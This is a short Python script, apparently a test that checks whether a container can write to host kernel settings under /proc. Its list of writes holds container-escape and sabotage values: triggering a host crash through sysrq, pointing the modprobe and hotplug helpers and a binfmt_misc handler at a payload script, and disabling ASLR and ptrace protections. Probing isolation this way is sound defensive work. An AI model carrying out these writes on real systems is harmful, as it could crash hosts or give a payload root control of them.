# Settings of the host's kernel that a container without a kernel of its own can reach through /proc.
from kit import attempt, finish, write

SETTINGS = {
    "/proc/sysrq-trigger": "c",
    "/proc/sys/kernel/modprobe": "/work/payload.sh",
    "/proc/sys/kernel/hotplug": "/work/payload.sh",
    "/proc/sys/kernel/randomize_va_space": "0",
    "/proc/sys/kernel/unprivileged_bpf_disabled": "0",
    "/proc/sys/kernel/yama/ptrace_scope": "0",
    "/proc/sys/vm/panic_on_oom": "2",
    "/proc/sys/vm/overcommit_memory": "1",
    "/proc/sys/fs/file-max": "1",
    "/proc/sys/fs/suid_dumpable": "2",
    "/proc/sys/fs/binfmt_misc/register": ":x:M::MZ::/work/payload.sh:C",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/1/oom_score_adj": "1000",
    "/proc/irq/0/smp_affinity": "0",
    "/proc/acpi/wakeup": "x",
}
for path, value in SETTINGS.items():
    attempt(path, write, path, value)
finish()
